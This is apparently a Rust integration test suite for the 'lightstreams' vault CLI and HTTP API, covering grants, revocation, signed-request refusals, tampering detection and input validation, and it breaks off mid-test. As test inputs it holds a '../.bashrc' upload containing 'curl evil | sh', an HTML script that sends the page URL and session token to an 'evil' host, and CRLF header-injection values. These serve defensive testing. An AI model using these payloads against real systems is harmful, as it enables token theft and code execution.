//! The vault end to end on a real `lightstreams dev` process: the CLI story (add, refuse, grant,
//! read, revoke + update, refuse), the security invariants (no plaintext on disk, one uniform
//! not-found for every refusal, revoked keys useless on later versions, owner untouchable,
//! tampering reported), and the HTTP API (custodial upload/download with Range, bad input).

mod util;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use alloy::primitives::Address;
use alloy::signers::local::PrivateKeySigner;
use lightstreams_access::http::{HttpRemote, RpcLedger};
use lightstreams_access::protocol::{Client, Identity, Remote};
use lightstreams_access::request::{ObjectRef, RequestKind, SignedRequest};
use lightstreams_vault::{ItemId, open_manifest};
use serde_json::Value;
use util::{
    Node, dev_accounts, exe, failed_with, http_agent, key_hex, marked_file, ok_json, raw_get,
    serial, tempdir, walk,
};

const NOT_FOUND: &str = r#"{"error":{"code":"not_found","message":"not found"}}"#;

/// Run `lightstreams vault ARGS --json` as `who` against `rpc`.
fn vault(rpc: &str, who: &PrivateKeySigner, args: &[&str]) -> Output {
    Command::new(exe())
        .arg("vault")
        .args(args)
        .args(["--json", "--rpc", rpc, "--private-key", &key_hex(who)])
        .env_remove("LIGHTSTREAMS_ACCOUNT")
        .env_remove("LIGHTSTREAMS_PRIVATE_KEY")
        .output()
        .expect("run lightstreams vault")
}

/// Run `lightstreams vault ARGS --json` as `who` against `rpc` with `input` on stdin.
fn vault_stdin(rpc: &str, who: &PrivateKeySigner, args: &[&str], input: &[u8]) -> Output {
    use std::io::Write;
    let mut child = Command::new(exe())
        .arg("vault")
        .args(args)
        .args(["--json", "--rpc", rpc, "--private-key", &key_hex(who)])
        .env_remove("LIGHTSTREAMS_ACCOUNT")
        .env_remove("LIGHTSTREAMS_PRIVATE_KEY")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run lightstreams vault");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(input).expect("write stdin");
    drop(stdin);
    child
        .wait_with_output()
        .expect("wait for lightstreams vault")
}

fn assert_no_marker(dir: &Path, marker: &[u8; 32]) {
    let files = walk(dir);
    assert!(!files.is_empty(), "nothing under {}", dir.display());
    for file in files {
        let bytes = std::fs::read(&file).unwrap_or_default();
        assert!(
            !bytes.windows(marker.len()).any(|w| w == marker),
            "plaintext of the upload found in {}",
            file.display()
        );
    }
}

fn start(dir: &Path) -> (Node, PathBuf) {
    let data = dir.join("data");
    let mut node = Node::dev(
        dir,
        "dev",
        &[
            "--block-interval-ms",
            "200",
            "--data-dir",
            data.to_str().expect("utf-8"),
        ],
    );
    node.wait_ready(Duration::from_secs(60));
    (node, data)
}

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

fn library_client(rpc: &str, who: &PrivateKeySigner) -> Client<RpcLedger, HttpRemote> {
    Client::new(
        RpcLedger::new(rpc),
        HttpRemote::connect(rpc).expect("connect"),
        Identity::from_signer(who.clone()),
    )
}

#[test]
fn story_and_security_invariants() {
    let _serial = serial();
    let dir = tempdir("vault");
    let (node, data) = start(dir.path());
    let rpc = node.rpc.url.clone();
    let accounts = dev_accounts(5);
    let (alice, bob, carol, dave) = (&accounts[0], &accounts[1], &accounts[2], &accounts[3]);
    let bob_addr = bob.address().to_string();
    // Carol and Dave register their encryption keys (any vault command does).
    ok_json(&vault(&rpc, carol, &["ls"]));
    ok_json(&vault(&rpc, dave, &["ls"]));

    // Alice adds a file (3 chunks) with a random marker in it.
    let input = dir.path().join("song.mp3");
    let (marker, _) = marked_file(&input, 2 * 1024 * 1024 + 4321);
    let added = ok_json(&vault(
        &rpc,
        alice,
        &["add", input.to_str().expect("utf-8")],
    ));
    let item_text = added["item"].as_str().expect("item id").to_string();
    let item: ItemId = item_text.parse().expect("item id parses");
    assert_eq!(added["size"], 2 * 1024 * 1024 + 4321);
    // A lone dev node is the whole network: one copy is all there is to wait for.
    assert_eq!(
        (&added["copies"], &added["copies_wanted"]),
        (&1.into(), &1.into())
    );

    // No plaintext anywhere under the node's data directory.
    assert_no_marker(&data, &marker);

    // Bob cannot get it (and registers his encryption key by trying).
    let bob_out = dir.path().join("bob.mp3");
    let refused = vault(
        &rpc,
        bob,
        &["get", &item_text, "-o", bob_out.to_str().expect("utf-8")],
    );
    failed_with(&refused, "not found");
    assert!(!bob_out.exists(), "a refused download leaves no file");

    // Alice grants Bob read; Bob gets exactly the bytes.
    ok_json(&vault(
        &rpc,
        alice,
        &["grant", &item_text, &bob_addr, "--read"],
    ));
    ok_json(&vault(
        &rpc,
        bob,
        &["get", &item_text, "-o", bob_out.to_str().expect("utf-8")],
    ));
    assert_eq!(std::fs::read(&bob_out).ok(), std::fs::read(&input).ok());
    // A range, decrypted client-side.
    let part = dir.path().join("part");
    ok_json(&vault(
        &rpc,
        bob,
        &[
            "get",
            &item_text,
            "--range",
            "1048570-1048590",
            "-o",
            part.to_str().expect("utf-8"),
        ],
    ));
    assert_eq!(
        std::fs::read(&part).ok(),
        std::fs::read(&input)
            .ok()
            .map(|d| d[1048570..=1048590].to_vec())
    );
    let listed = ok_json(&vault(&rpc, bob, &["ls"]));
    assert_eq!(listed[0]["item"], item_text.as_str());
    assert_eq!(listed[0]["level"], "read");
    // Readers see what the item is: its latest name and size, in `ls` and `info`.
    assert_eq!(listed[0]["name"], "song.mp3");
    assert_eq!(listed[0]["size"], 2 * 1024 * 1024 + 4321);
    let about = ok_json(&vault(&rpc, bob, &["info", &item_text]));
    assert_eq!(
        (&about["name"], &about["media_type"], &about["size"]),
        (
            &"song.mp3".into(),
            &"audio/mpeg".into(),
            &(2 * 1024 * 1024 + 4321).into()
        )
    );

    // Bob keeps the epoch-0 key he was given, and a chunk address he was allowed to fetch.
    let bob_client = library_client(&rpc, bob);
    let info = bob_client.info(item).expect("bob reads info");
    let old_key = bob_client.content_key(item, 0).expect("bob's epoch-0 key");
    let v0 = bob_client.open(item, Some(0)).expect("bob opens v0");
    let old_chunk = v0.manifest.chunks[0];
    assert_eq!(info.epoch, 0);

    // An admin cannot demote or revoke the owner.
    ok_json(&vault(
        &rpc,
        alice,
        &["grant", &item_text, &dave.address().to_string(), "--admin"],
    ));
    failed_with(
        &vault(
            &rpc,
            dave,
            &["revoke", &item_text, &alice.address().to_string()],
        ),
        "OwnerIsUntouchable",
    );
    failed_with(
        &vault(
            &rpc,
            dave,
            &["grant", &item_text, &alice.address().to_string(), "--read"],
        ),
        "OwnerIsUntouchable",
    );

    // Alice revokes Bob (re-key) and publishes a new version.
    let revoked = ok_json(&vault(&rpc, alice, &["revoke", &item_text, &bob_addr]));
    assert_eq!(revoked["rekeyed_version"]["epoch"], 1);
    let input2 = dir.path().join("song-v2.mp3");
    let (marker2, _) = marked_file(&input2, 300_000);
    let updated = ok_json(&vault(
        &rpc,
        alice,
        &["update", &item_text, input2.to_str().expect("utf-8")],
    ));
    assert_eq!(updated["epoch"], 1);
    assert_no_marker(&data, &marker2);

    // Bob cannot get the new version, nor the old one any more.
    failed_with(
        &vault(
            &rpc,
            bob,
            &["get", &item_text, "-o", bob_out.to_str().expect("utf-8")],
        ),
        "not found",
    );
    failed_with(
        &vault(
            &rpc,
            bob,
            &[
                "get",
                &item_text,
                "--version",
                "0",
                "-o",
                bob_out.to_str().expect("utf-8"),
            ],
        ),
        "not found",
    );
    // Dave (admin, still granted) reads the new version.
    let dave_out = dir.path().join("dave.mp3");
    ok_json(&vault(
        &rpc,
        dave,
        &["get", &item_text, "-o", dave_out.to_str().expect("utf-8")],
    ));
    assert_eq!(std::fs::read(&dave_out).ok(), std::fs::read(&input2).ok());

    // Even holding the old key and the storage node's files, Bob cannot open any version
    // published after the revocation.
    let alice_client = library_client(&rpc, alice);
    let after = alice_client.info(item).expect("info");
    assert_eq!(after.versions.len(), 3);
    for version in &after.versions[1..] {
        let hex = hex::encode(version.manifest.0);
        let blob = walk(&data)
            .into_iter()
            .find(|p| p.file_name().is_some_and(|n| n.to_string_lossy() == hex))
            .map(|p| std::fs::read(p).expect("read blob"))
            .expect("manifest on the node's disk");
        assert!(
            open_manifest(&old_key, item, version.index, &blob, None).is_err(),
            "the revoked key opened version {}",
            version.index
        );
    }
    assert_ne!(
        alice_client
            .content_key(item, 1)
            .expect("alice epoch-1 key")
            .as_bytes(),
        old_key.as_bytes()
    );

    // One uniform answer for everything refused, byte-identical to a never-existing id.
    let node_id = HttpRemote::connect(&rpc).expect("connect").node_id();
    let sign = |who: &PrivateKeySigner, item: [u8; 32], object: ObjectRef| {
        SignedRequest::sign(who, RequestKind::Get, item, object, node_id.clone()).to_header()
    };
    let chunk = ObjectRef::Chunk(old_chunk.0);
    let never: [u8; 32] = rand::random();
    let baseline = raw_get(
        &rpc,
        &never,
        &chunk,
        Some(&sign(alice, never, chunk.clone())),
    );
    assert_eq!(baseline, (404, NOT_FOUND.to_string()));
    let mut refusals = vec![
        (
            "stranger",
            raw_get(
                &rpc,
                &item.0,
                &chunk,
                Some(&sign(carol, item.0, chunk.clone())),
            ),
        ),
        (
            "revoked",
            raw_get(
                &rpc,
                &item.0,
                &chunk,
                Some(&sign(bob, item.0, chunk.clone())),
            ),
        ),
        ("unsigned", raw_get(&rpc, &item.0, &chunk, None)),
        (
            "garbage signature",
            raw_get(
                &rpc,
                &item.0,
                &chunk,
                Some("Lightstreams-Sig v1 ts=1,nonce=00,sig=0x00"),
            ),
        ),
    ];
    // Stale: signed five minutes ago.
    let stale = SignedRequest::sign_at(
        alice,
        RequestKind::Get,
        item.0,
        chunk.clone(),
        node_id.clone(),
        now() - 300,
        rand::random(),
    );
    refusals.push((
        "stale",
        raw_get(&rpc, &item.0, &chunk, Some(&stale.to_header())),
    ));
    // Addressed to another node.
    let elsewhere = SignedRequest::sign(
        alice,
        RequestKind::Get,
        item.0,
        chunk.clone(),
        "0x1234".into(),
    );
    refusals.push((
        "other node",
        raw_get(&rpc, &item.0, &chunk, Some(&elsewhere.to_header())),
    ));
    // Replayed: the first use succeeds, the second is refused.
    let once = sign(alice, item.0, chunk.clone());
    assert_eq!(
        raw_get(&rpc, &item.0, &chunk, Some(&once)).0,
        200,
        "the owner reads the chunk"
    );
    refusals.push(("replayed", raw_get(&rpc, &item.0, &chunk, Some(&once))));
    // Expired: a grant that ran out.
    let expires = now() + 2;
    let carol_addr = carol.address().to_string();
    ok_json(&vault(
        &rpc,
        alice,
        &[
            "grant",
            &item_text,
            &carol_addr,
            "--read",
            "--expires",
            "2s",
        ],
    ));
    assert!(now() <= expires);
    std::thread::sleep(Duration::from_secs(4));
    refusals.push((
        "expired",
        raw_get(
            &rpc,
            &item.0,
            &chunk,
            Some(&sign(carol, item.0, chunk.clone())),
        ),
    ));
    for (what, answer) in refusals {
        assert_eq!(answer, baseline, "{what} must get the uniform not-found");
    }

    // A writer cannot delete what another account published: DELETE takes back only what the
    // same account stored on that node lately (a failed upload's leftovers).
    ok_json(&vault(
        &rpc,
        alice,
        &["grant", &item_text, &carol_addr, "--write"],
    ));
    let published = alice_client.open(item, None).expect("open latest");
    let target = ObjectRef::Chunk(published.manifest.chunks[0].0);
    let delete = SignedRequest::sign(
        carol,
        RequestKind::Delete,
        item.0,
        target.clone(),
        node_id.clone(),
    );
    let (kind, id) = target.path_parts();
    let mut r = http_agent()
        .delete(format!("{rpc}/v1/raw/{item_text}/{kind}/{id}"))
        .header("Authorization", &delete.to_header())
        .call()
        .expect("http");
    assert_eq!(
        (
            r.status().as_u16(),
            r.body_mut().read_to_string().unwrap_or_default()
        ),
        (404, NOT_FOUND.to_string()),
        "a writer deleting the owner's published chunk"
    );
    assert_eq!(
        raw_get(
            &rpc,
            &item.0,
            &target,
            Some(&sign(alice, item.0, target.clone()))
        )
        .0,
        200,
        "the chunk is still there"
    );

    // Tampering on the node's disk is detected and reported, never returned as data.
    let current = alice_client.open(item, None).expect("open latest");
    let hex = hex::encode(current.manifest.chunks[0].0);
    let path = walk(&data)
        .into_iter()
        .find(|p| p.file_name().is_some_and(|n| n.to_string_lossy() == hex))
        .expect("chunk on disk");
    let mut bytes = std::fs::read(&path).expect("read chunk");
    bytes[10] ^= 0x01;
    std::fs::write(&path, bytes).expect("tamper");
    let tampered_out = dir.path().join("tampered");
    failed_with(
        &vault(
            &rpc,
            alice,
            &[
                "get",
                &item_text,
                "-o",
                tampered_out.to_str().expect("utf-8"),
            ],
        ),
        "corrupt",
    );
    assert!(
        !tampered_out.exists(),
        "no partial output after a failed download"
    );
}

#[test]
fn public_items_and_bad_input() {
    let _serial = serial();
    let dir = tempdir("vault-public");
    let (node, _data) = start(dir.path());
    let rpc = node.rpc.url.clone();
    let accounts = dev_accounts(3);
    let (alice, carol) = (&accounts[0], &accounts[2]);

    let input = dir.path().join("open.txt");
    std::fs::write(&input, b"free for everyone").expect("write");
    let added = ok_json(&vault(
        &rpc,
        alice,
        &[
            "add",
            input.to_str().expect("utf-8"),
            "--public",
            "--no-wait",
        ],
    ));
    assert!(added.get("copies").is_none(), "--no-wait: {added}");
    let item = added["item"].as_str().expect("item").to_string();
    let out = dir.path().join("got.txt");
    ok_json(&vault(
        &rpc,
        carol,
        &["get", &item, "-o", out.to_str().expect("utf-8")],
    ));
    assert_eq!(
        std::fs::read(&out).ok(),
        Some(b"free for everyone".to_vec())
    );
    // `-o` naming a special file (here a named pipe; `/dev/null` alike) writes into it: it
    // must not be replaced by a plain file, as the rename a regular download ends with would.
    let fifo = dir.path().join("pipe");
    let made = Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("run mkfifo");
    assert!(made.success(), "mkfifo failed");
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read(&fifo).expect("read the pipe"))
    };
    ok_json(&vault(
        &rpc,
        carol,
        &["get", &item, "-o", fifo.to_str().expect("utf-8")],
    ));
    use std::os::unix::fs::FileTypeExt;
    let kind = std::fs::symlink_metadata(&fifo).expect("pipe").file_type();
    assert!(
        kind.is_fifo(),
        "vault get -o replaced the named pipe: {kind:?}"
    );
    assert_eq!(
        reader.join().expect("reader"),
        b"free for everyone".to_vec()
    );
    // Private again: a new epoch; Carol can no longer read.
    ok_json(&vault(&rpc, alice, &["public", &item, "--off"]));
    failed_with(
        &vault(
            &rpc,
            carol,
            &["get", &item, "-o", out.to_str().expect("utf-8")],
        ),
        "not found",
    );

    // Stdin in (`-`, named with --name), a directory out (the item's name in it); an update
    // from stdin keeps the item's name.
    let added = ok_json(&vault_stdin(
        &rpc,
        alice,
        &["add", "-", "--name", "notes.txt"],
        b"piped in",
    ));
    let piped = added["item"].as_str().expect("item").to_string();
    let downloads = dir.path().join("downloads");
    std::fs::create_dir(&downloads).expect("mkdir");
    let got = ok_json(&vault(
        &rpc,
        alice,
        &["get", &piped, "-o", downloads.to_str().expect("utf-8")],
    ));
    assert_eq!(got["name"], "notes.txt");
    assert_eq!(got["media_type"], "text/plain");
    assert_eq!(
        std::fs::read(downloads.join("notes.txt")).ok(),
        Some(b"piped in".to_vec())
    );
    ok_json(&vault_stdin(
        &rpc,
        alice,
        &["update", &piped, "-"],
        b"piped again",
    ));
    // A name the item chose never replaces a file already there; one named with -o does.
    failed_with(
        &vault(
            &rpc,
            alice,
            &["get", &piped, "-o", downloads.to_str().expect("utf-8")],
        ),
        "already exists",
    );
    assert_eq!(
        std::fs::read(downloads.join("notes.txt")).ok(),
        Some(b"piped in".to_vec())
    );
    let named = downloads.join("notes.txt");
    let got = ok_json(&vault(
        &rpc,
        alice,
        &["get", &piped, "-o", named.to_str().expect("utf-8")],
    ));
    assert_eq!(
        (got["name"].as_str(), got["version"].as_u64()),
        (Some("notes.txt"), Some(1))
    );
    assert_eq!(
        std::fs::read(downloads.join("notes.txt")).ok(),
        Some(b"piped again".to_vec())
    );
    // An item named like a shell start-up file lands as a plain, visible file.
    let hostile = ok_json(&vault_stdin(
        &rpc,
        alice,
        &["add", "-", "--name", "../.bashrc", "--no-wait"],
        b"curl evil | sh",
    ));
    let hostile = hostile["item"].as_str().expect("item").to_string();
    let got = ok_json(&vault(
        &rpc,
        alice,
        &["get", &hostile, "-o", downloads.to_str().expect("utf-8")],
    ));
    assert_eq!(
        got["path"],
        downloads.join("bashrc").to_str().expect("utf-8")
    );
    assert!(!downloads.join(".bashrc").exists() && !dir.path().join(".bashrc").exists());
    // A media type that is not one is refused before anything is sent.
    let before = ok_json(&vault(&rpc, alice, &["ls"]))
        .as_array()
        .map(Vec::len);
    failed_with(
        &vault_stdin(
            &rpc,
            alice,
            &["add", "-", "--media-type", "text/html\r\nX: y"],
            b"x",
        ),
        "is not a media type",
    );
    assert_eq!(
        ok_json(&vault(&rpc, alice, &["ls"]))
            .as_array()
            .map(Vec::len),
        before
    );
    // A directory cannot be added, and the refusal costs no transaction (no new item).
    let items = |who| ok_json(&vault(&rpc, who, &["ls"])).as_array().map(Vec::len);
    let before = items(alice);
    failed_with(
        &vault(&rpc, alice, &["add", downloads.to_str().expect("utf-8")]),
        "is a directory",
    );
    assert_eq!(items(alice), before);

    // An account without PHT is told to fund itself, and how.
    let broke = PrivateKeySigner::random();
    let input = dir.path().join("broke.txt");
    std::fs::write(&input, b"no gas money").expect("write input");
    failed_with(
        &vault(&rpc, &broke, &["add", input.to_str().expect("utf-8")]),
        &format!(
            "send it some first (lightstreams send --to {}",
            broke.address()
        ),
    );

    // Bad ids and arguments: clear errors.
    failed_with(&vault(&rpc, alice, &["get", "0x1234"]), "not an item id");
    failed_with(
        &vault(&rpc, alice, &["grant", &item, "nobody", "--read"]),
        "not an address",
    );
    failed_with(
        &vault(
            &rpc,
            alice,
            &[
                "grant",
                &item,
                &carol.address().to_string(),
                "--read",
                "--expires",
                "soon",
            ],
        ),
        "duration",
    );
    failed_with(
        &vault(&rpc, alice, &["add", "/no/such/file"]),
        "cannot open",
    );
    failed_with(
        &vault(&rpc, alice, &["get", &item, "--range", "50-10"]),
        "--range",
    );

    let agent = http_agent();
    // A malformed id in a raw path: 400 naming the problem.
    let mut r = agent
        .get(format!("{rpc}/v1/raw/0x12/chunks/0x34"))
        .call()
        .expect("http");
    assert_eq!(r.status().as_u16(), 400);
    let body: Value = r.body_mut().read_json().expect("json error");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .contains("64 hex")
    );
    // An unsigned PUT is refused with the uniform not-found before its body is read.
    let some = format!("0x{}", hex::encode([7u8; 32]));
    let r = agent
        .put(format!("{rpc}/v1/raw/{some}/chunks/{some}"))
        .send(&b"not the preimage"[..])
        .expect("http");
    assert_eq!(r.status().as_u16(), 404);
    // A writer's body that does not hash to its address: 400 naming it, nothing stored.
    let item_id: [u8; 32] = item
        .parse::<lightstreams_vault::ItemId>()
        .expect("item id")
        .0;
    let node_id = HttpRemote::connect(&rpc).expect("connect").node_id();
    let auth = SignedRequest::sign(
        alice,
        RequestKind::Put,
        item_id,
        ObjectRef::Chunk([7u8; 32]),
        node_id,
    )
    .to_header();
    let mut r = agent
        .put(format!("{rpc}/v1/raw/{item}/chunks/{some}"))
        .header("Authorization", &auth)
        .send(&b"not the preimage"[..])
        .expect("http");
    assert_eq!(r.status().as_u16(), 400);
    let body: Value = r.body_mut().read_json().expect("json error");
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("hashes to")),
        "{body}"
    );
    // Huge headers: refused with a 4xx, the node keeps serving.
    let r = agent
        .get(format!("{rpc}/v1"))
        .header("X-Filler", "a".repeat(200_000))
        .call();
    if let Ok(r) = r {
        assert!(
            r.status().is_client_error(),
            "huge header got {}",
            r.status()
        );
    }
    assert_eq!(
        agent
            .get(format!("{rpc}/v1"))
            .call()
            .expect("http")
            .status()
            .as_u16(),
        200
    );
    // Unknown routes name the document.
    let mut r = agent.get(format!("{rpc}/v1/nope")).call().expect("http");
    assert_eq!(r.status().as_u16(), 404);
    assert!(
        r.body_mut()
            .read_to_string()
            .unwrap_or_default()
            .contains("openapi")
    );
    // Every error is JSON naming what is wrong: a query string that does not parse, a method a
    // route does not take (with the Allow header), an account on a node with no keystore yet.
    let error_of = |mut r: ureq::http::Response<ureq::Body>| {
        let status = r.status().as_u16();
        let allow = r
            .headers()
            .get("allow")
            .and_then(|v| v.to_str().ok())
            .map(str::to_string);
        let body: Value = r.body_mut().read_json().expect("a JSON error body");
        let code = body["error"]["code"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let message = body["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        (status, code, message, allow)
    };
    let (status, code, message, _) = error_of(
        agent
            .post(format!("{rpc}/v1/files?public=maybe"))
            .send(&b"x"[..])
            .expect("http"),
    );
    assert_eq!((status, code.as_str()), (400, "bad_request"));
    assert!(message.contains("public"), "{message}");
    let (status, code, _, allow) = error_of(
        agent
            .delete(format!("{rpc}/v1/session"))
            .call()
            .expect("http"),
    );
    assert_eq!((status, code.as_str()), (405, "method_not_allowed"));
    assert_eq!(allow.as_deref(), Some("POST"));
    let (status, code, _, _) = error_of(
        agent
            .post(format!("{rpc}/v1/session"))
            .send_json(serde_json::json!({"account": carol.address(), "password": "pw"}))
            .expect("http"),
    );
    assert_eq!((status, code.as_str()), (401, "bad_credentials"));
    // The OpenAPI document is valid JSON naming the routes.
    let mut r = agent
        .get(format!("{rpc}/v1/openapi.json"))
        .call()
        .expect("http");
    let doc: Value = r.body_mut().read_json().expect("openapi json");
    assert_eq!(doc["openapi"], "3.1.0");
    for path in [
        "/v1/files",
        "/v1/files/{item}",
        "/v1/raw/{item}/{kind}/{id}",
        "/v1/items/{item}/grants",
    ] {
        assert!(doc["paths"].get(path).is_some(), "{path} documented");
    }
}

#[test]
fn custodial_http_api() {
    let _serial = serial();
    let dir = tempdir("vault-http");
    let (node, data) = start(dir.path());
    let rpc = node.rpc.url.clone();
    let funder = &dev_accounts(1)[0];

    // An account in the node's keystore (funded for gas below).
    let password = dir.path().join("password");
    std::fs::write(&password, "pw\n").expect("write");
    let created = Command::new(exe())
        .args(["account", "new", "--json", "--keystore"])
        .arg(data.join("keystore"))
        .arg("--password-file")
        .arg(&password)
        .output()
        .expect("account new");
    let account: Address = ok_json(&created)["address"]
        .as_str()
        .expect("address")
        .parse()
        .expect("address parses");

    let agent = http_agent();
    // Wrong password: 401; the account then waits before the next attempt (429 with
    // Retry-After, even with the right password), so a web page cannot guess at speed.
    let r = agent
        .post(format!("{rpc}/v1/session"))
        .send_json(serde_json::json!({"account": account, "password": "wrong"}))
        .expect("http");
    assert_eq!(r.status().as_u16(), 401);
    let r = agent
        .post(format!("{rpc}/v1/session"))
        .send_json(serde_json::json!({"account": account, "password": "pw"}))
        .expect("http");
    assert_eq!(r.status().as_u16(), 429);
    let wait: u64 = r
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .expect("Retry-After in seconds");
    assert!((1..=2).contains(&wait), "Retry-After {wait}");
    std::thread::sleep(std::time::Duration::from_secs(wait));
    let mut r = agent
        .post(format!("{rpc}/v1/session"))
        .send_json(serde_json::json!({"account": account, "password": "pw"}))
        .expect("http");
    assert_eq!(r.status().as_u16(), 200);
    let session: Value = r.body_mut().read_json().expect("json");
    let token = session["token"].as_str().expect("token").to_string();
    let bearer = format!("Bearer {token}");

    // Without a session: 401 naming what to do.
    let r = agent
        .post(format!("{rpc}/v1/files"))
        .send(&b"x"[..])
        .expect("http");
    assert_eq!(r.status().as_u16(), 401);

    // Before the account holds PHT, an upload is refused (409) with how to fund it.
    let mut r = agent
        .post(format!("{rpc}/v1/files?name=early.txt"))
        .header("Authorization", &bearer)
        .send(&b"too early"[..])
        .expect("http");
    assert_eq!(r.status().as_u16(), 409);
    let text = r.body_mut().read_to_string().expect("body");
    assert!(
        text.contains(&format!("lightstreams send --to {account}")),
        "{text}"
    );
    let sent = Command::new(exe())
        .args([
            "send",
            "--json",
            "--rpc",
            &rpc,
            "--to",
            &account.to_string(),
            "--value",
            "10pht",
            "--private-key",
            &key_hex(funder),
        ])
        .output()
        .expect("send");
    ok_json(&sent);

    // Raw upload, streamed; the node encrypts. No plaintext lands on disk.
    let marker: [u8; 32] = rand::random();
    let mut content = Vec::new();
    for i in 0..40_000u32 {
        content.extend_from_slice(&marker);
        content.extend_from_slice(&i.to_le_bytes());
    }
    let mut r = agent
        .post(format!(
            "{rpc}/v1/files?name=track.flac&media_type=audio/flac"
        ))
        .header("Authorization", &bearer)
        .send(&content[..])
        .expect("http");
    assert_eq!(
        r.status().as_u16(),
        201,
        "{}",
        r.body_mut().read_to_string().unwrap_or_default()
    );
    let published: Value = r.body_mut().read_json().expect("json");
    let item = published["item"].as_str().expect("item").to_string();
    assert_eq!(published["size"], content.len());
    // Answered once replicated: a lone dev node holds the one copy wanted.
    assert_eq!(
        (&published["copies"], &published["copies_wanted"]),
        (&1.into(), &1.into())
    );
    assert_no_marker(&data, &marker);

    // Download: whole, and a Range answered 206 with the right bytes.
    let mut r = agent
        .get(format!("{rpc}/v1/files/{item}"))
        .header("Authorization", &bearer)
        .call()
        .expect("http");
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(
        r.headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some("audio/flac")
    );
    // Shown inline (a player can play it), never sniffed, and in a CSP sandbox.
    let header = |r: &ureq::http::Response<ureq::Body>, name: &str| {
        r.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned)
    };
    assert_eq!(
        header(&r, "content-disposition").as_deref(),
        Some("inline; filename=\"track.flac\"; filename*=UTF-8''track.flac")
    );
    assert_eq!(
        header(&r, "x-content-type-options").as_deref(),
        Some("nosniff")
    );
    assert_eq!(
        header(&r, "content-security-policy").as_deref(),
        Some("sandbox")
    );
    let whole = r
        .body_mut()
        .with_config()
        .limit(64 << 20)
        .read_to_vec()
        .expect("body");
    assert!(whole == content);
    let mut r = agent
        .get(format!("{rpc}/v1/files/{item}?token={token}"))
        .header("Range", "bytes=1048570-1048600")
        .call()
        .expect("http");
    assert_eq!(r.status().as_u16(), 206);
    assert_eq!(
        r.headers()
            .get("content-range")
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned),
        Some(format!("bytes 1048570-1048600/{}", content.len()))
    );
    assert_eq!(
        r.body_mut().read_to_vec().expect("body"),
        content[1048570..=1048600].to_vec()
    );
    let r = agent
        .get(format!("{rpc}/v1/files/{item}?token={token}"))
        .header("Range", "bytes=99999999-")
        .call()
        .expect("http");
    assert_eq!(r.status().as_u16(), 416);

    // A published HTML page is offered as an attachment in a sandbox: it cannot run script on
    // this node's origin, where the reader's session token is in the URL.
    let mut r = agent
        .post(format!(
            "{rpc}/v1/files?name=page.html&media_type=text/html&wait=false"
        ))
        .header("Authorization", &bearer)
        .send(&b"<script>fetch('//evil/?'+location)</script>"[..])
        .expect("http");
    assert_eq!(r.status().as_u16(), 201);
    let page: Value = r.body_mut().read_json().expect("json");
    let page = page["item"].as_str().expect("item").to_string();
    let r = agent
        .get(format!("{rpc}/v1/files/{page}?token={token}"))
        .call()
        .expect("http");
    assert_eq!(r.status().as_u16(), 200);
    assert_eq!(header(&r, "content-type").as_deref(), Some("text/html"));
    assert!(
        header(&r, "content-disposition").is_some_and(|d| d.starts_with("attachment;")),
        "{:?}",
        header(&r, "content-disposition")
    );
    assert_eq!(
        header(&r, "content-security-policy").as_deref(),
        Some("sandbox")
    );
    // A media type that is not one (here one that would split the header) is refused up
    // front, by name, and nothing is created.
    let items = || {
        agent
            .get(format!("{rpc}/v1/items?token={token}"))
            .call()
            .expect("http")
            .body_mut()
            .read_to_string()
            .expect("body")
    };
    let items_before = items();
    let mut r = agent
        .post(format!(
            "{rpc}/v1/files?name=x.html&media_type=text%2Fhtml%0D%0ASet-Cookie%3A%20a%3Db"
        ))
        .header("Authorization", &bearer)
        .send(&b"x"[..])
        .expect("http");
    assert_eq!(r.status().as_u16(), 400);
    let body: Value = r.body_mut().read_json().expect("json");
    let message = body["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("is not a media type"), "{body}");
    assert_eq!(items_before, items());

    // Multipart upload.
    let boundary = "XyZboundary";
    let mut form = Vec::new();
    form.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n").as_bytes());
    form.extend_from_slice(b"multipart body");
    form.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let mut r = agent
        .post(format!("{rpc}/v1/files?wait=false"))
        .header("Authorization", &bearer)
        .header(
            "Content-Type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .send(&form[..])
        .expect("http");
    assert_eq!(
        r.status().as_u16(),
        201,
        "{}",
        r.body_mut().read_to_string().unwrap_or_default()
    );
    let mp: Value = r.body_mut().read_json().expect("json");
    assert!(mp.get("copies").is_none(), "wait=false: {mp}");
    let mut r = agent
        .get(format!(
            "{rpc}/v1/items/{}",
            mp["item"].as_str().expect("item")
        ))
        .header("Authorization", &bearer)
        .call()
        .expect("http");
    let info: Value = r.body_mut().read_json().expect("json");
    assert_eq!(info["level"], "owner");
    assert_eq!(info["versions"].as_array().map(Vec::len), Some(1));
    let mut r = agent
        .get(format!("{rpc}/v1/items"))
        .header("Authorization", &bearer)
        .call()
        .expect("http");
    let items: Value = r.body_mut().read_json().expect("json");
    // The track, the HTML page and the multipart upload.
    assert_eq!(items["items"].as_array().map(Vec::len), Some(3));

    // Grant through the API to a dev account; it reads with the CLI.
    let reader = &dev_accounts(2)[1];
    let _ = vault(&rpc, reader, &["ls"]); // registers the reader's encryption key
    // An expiry past the end of time is refused by name, not wrapped into the past.
    let mut r = agent
